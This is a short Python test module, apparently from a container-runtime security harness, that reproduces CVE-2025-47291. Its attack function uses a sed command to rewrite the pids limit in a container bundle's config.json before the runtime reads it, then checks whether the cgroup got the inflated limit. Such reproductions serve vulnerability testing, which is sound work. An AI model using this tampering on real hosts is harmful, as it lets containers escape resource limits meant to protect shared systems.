"""A low-level runtime that sets no limits."""

from bypass import attested, world

SOURCE = "CVE-2025-47291: a container that is not held to its limits"
WAY = "race"
STOPPED = attested("pids")


def attack(t):
    t.before_low("sed -E -i 's/\"pids\": ?\\{[^}]*\\}/\"pids\":{\"limit\":4194304}/' %s/config.json" % t.bundle)
    t.spec["linux"]["resources"]["pids"] = {"limit": 100}
    t.create("sleep 1000")
    t.start()
    return [group for group in world.groups_with(t.id) if t.read(group + "/pids.max").strip() == "4194304"]
